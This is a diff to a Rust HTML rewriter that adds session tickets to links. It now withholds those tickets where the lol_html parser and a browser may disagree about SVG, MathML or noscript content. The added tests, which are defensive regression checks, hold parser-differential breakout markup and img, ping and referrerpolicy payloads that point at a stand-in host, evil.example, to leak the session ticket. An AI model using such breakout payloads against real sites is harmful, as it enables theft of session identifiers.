@@ -26,6 +26,23 @@
 //!   `srcdoc` attributes are dropped (the response's own `Referrer-Policy:
 //!   same-origin` then governs every request).
 //!
+//! - lol_html's tokenizer follows the HTML tree builder's namespaces only
+//!   approximately, and a browser decides by the tree builder. Where the
+//!   two can disagree about what is markup and what is text, the rewriter
+//!   gives up the ticket rather than guess:
+//!   - `<noscript>` is removed: lol_html reads it as a browser with
+//!     scripting on does (text), a browser with scripting off as markup;
+//!   - `<mglyph>` and `<malignmark>` are removed: a browser can place them
+//!     (and so a `<style>` or `<title>` inside) in MathML, where lol_html
+//!     sees HTML and reads the inside as text;
+//!   - inside an element named like one of HTML's text-only elements
+//!     (`style`, `title`, `textarea`, `script`, …), no element gets the
+//!     ticket: in HTML their content is text, so an element lol_html
+//!     reports there means it believes itself in SVG or MathML, which it
+//!     can after the browser has left (`<svg/>`, a closed parent); what it
+//!     reads as a link the browser reads as text, to be reassembled into
+//!     a request elsewhere.
+//!
 //! Scripts, styles and comments are not HTML elements to lol_html, so
 //! links inside them are never touched; what a page's own scripts do with
 //! `location` is beyond any rewriter (see README, "Security model").
@@ -44,6 +61,11 @@ const MEMORY_LIMIT: usize = 4 * 1024 * 1024;
 
 const SELECTOR: &str = "a[href], area[href], form, [formaction], iframe, frame[src], \
      meta, base[href], [ping], [referrerpolicy], script[type]";
+
+/// HTML's raw-text and escapable-raw-text elements (and `plaintext`):
+/// their content is text in HTML, markup in SVG or MathML.
+const TEXT_ONLY: &str =
+    "style, script, title, textarea, xmp, iframe, noembed, noframes, plaintext, noscript, mglyph, malignmark";
 
 /// What relative URLs resolve against, as far as the page has told.
 enum Base {
@@ -66,14 +88,40 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
 ) -> Option<HtmlRewriter<'h, O>> {
     let encoding = AsciiCompatibleEncoding::new(encoding)?;
     let mut base = Base::Document;
+    // How many ambiguous text-only elements (see the module's notes) are
+    // open around the current element: no ticket is given inside one.
+    let ambiguous = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let open = ambiguous.clone();
+    let text_only = move |el: &mut Element<'_, '_>| -> HandlerResult {
+        let tag = el.tag_name();
+        if el.removed() {
+            return Ok(());
+        }
+        if matches!(tag.as_str(), "noscript" | "mglyph" | "malignmark") {
+            el.remove();
+        } else if el.can_have_content() {
+            open.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+            let open = open.clone();
+            el.on_end_tag(Box::new(move |_| {
+                let _ = open.fetch_update(
+                    std::sync::atomic::Ordering::Relaxed,
+                    std::sync::atomic::Ordering::Relaxed,
+                    |n| n.checked_sub(1),
+                );
+                Ok(())
+            }))?;
+        }
+        Ok(())
+    };
     let handler = move |el: &mut Element<'_, '_>| -> HandlerResult {
         // Anything that could send the page's address elsewhere goes first.
         el.remove_attribute("ping");
         el.remove_attribute("referrerpolicy");
+        let inside_ambiguous = ambiguous.load(std::sync::atomic::Ordering::Relaxed) > 0;
         let tag = el.tag_name();
         if tag == "base" {
             // Only the first <base href> counts (HTML §4.2.3).
-            if matches!(base, Base::Document) {
+            if matches!(base, Base::Document) && !inside_ambiguous {
                 let href = el.get_attribute("href").unwrap_or_default();
                 base = match attribute_url(&href).and_then(|h| origin.document.join(h.trim()).ok())
                 {
@@ -89,8 +137,12 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
             Base::Unknown => None,
         };
         // `text` is a URL as the browser reads it (references decoded).
-        let rewrite =
-            |text: &str, carry: Carry| rewrite_url(text, resolve_against, &origin, &ticket, carry);
+        let rewrite = |text: &str, carry: Carry| {
+            if inside_ambiguous {
+                return None;
+            }
+            rewrite_url(text, resolve_against, &origin, &ticket, carry)
+        };
         match tag.as_str() {
             "a" | "area" => set_url(el, "href", &rewrite, Carry::Query)?,
             "frame" => set_url(el, "src", &rewrite, Carry::Query)?,
@@ -132,7 +184,10 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
         Ok(())
     };
     let settings = Settings::new_send()
+        // In this order: an element itself (an iframe's src) is judged
+        // before it counts as open around what follows.
         .append_element_content_handler(lol_html::element!(SELECTOR, handler))
+        .append_element_content_handler(lol_html::element!(TEXT_ONLY, text_only))
         .with_encoding(encoding)
         .with_adjust_charset_on_meta_tag(true)
         .with_memory_settings(
@@ -271,6 +326,59 @@ mod tests {
             );
         }
         expected
+    }
+
+    /// Where lol_html and a browser's tree builder disagree about SVG and
+    /// MathML (an outside review with Chromium found each of these
+    /// leaking the ticket into a foreign request), nothing gets it.
+    #[test]
+    fn where_the_parser_may_misjudge_foreign_content_no_ticket_is_given() {
+        let breakouts = [
+            "<svg/><style>",
+            "<div><svg></div><style>",
+            "<svg><svg><p><style>",
+            "<table><tr><td><svg></td><td><style>",
+            "<svg><desc><div></desc><style>",
+            "<math><mi><svg></mi><textarea>",
+            "<svg/><title>",
+            "<svg/><textarea>",
+            "<svg/><xmp>",
+            "<svg/><noembed>",
+        ];
+        for opening in breakouts {
+            let close = opening.rsplit('<').next().unwrap_or_default();
+            let close = format!("</{close}");
+            let page = format!(
+                "{opening}<a title=\"{close}<img src='http://evil.example/?\" href=\"/x\" id=\"'>\">x</a>{close}<p>after</p>"
+            );
+            let out = all_ways(&page);
+            assert!(!out.contains("SID=abc"), "{opening}: {out}");
+        }
+        // MathML text integration points a browser keeps in MathML.
+        for page in [
+            "<math><mi><mglyph><style><img src=\"http://evil.example/g\" referrerpolicy=\"unsafe-url\"></style></mglyph></mi></math>",
+            "<math><mi><malignmark><title><meta name=\"referrer\" content=\"unsafe-url\"></title></malignmark></mi></math>",
+        ] {
+            let out = all_ways(page);
+            assert!(!out.contains("unsafe-url"), "{out}");
+        }
+        // Markup to a browser with scripting off.
+        let out = all_ways("<noscript><img src=//evil.example/n referrerpolicy=unsafe-url><a href=/x ping=//evil.example/p>x</a></noscript><a href=/y>y</a>");
+        assert!(!out.contains("noscript") && !out.contains("evil"), "{out}");
+        assert!(
+            out.contains("O/y?SID=abc") || out.contains("/y?SID=abc"),
+            "{out}"
+        );
+    }
+
+    #[test]
+    fn svg_and_mathml_that_close_normally_keep_their_links_and_those_after() {
+        let out = all_ways(
+            "<svg><style>.c{fill:red}</style><a href=\"/in-svg\"><text>t</text></a></svg>\
+             <math><mi>x</mi></math><a href=\"/after\">a</a>",
+        );
+        assert!(out.contains("/in-svg?SID=abc"), "{out}");
+        assert!(out.contains("/after?SID=abc"), "{out}");
     }
 
     #[test]
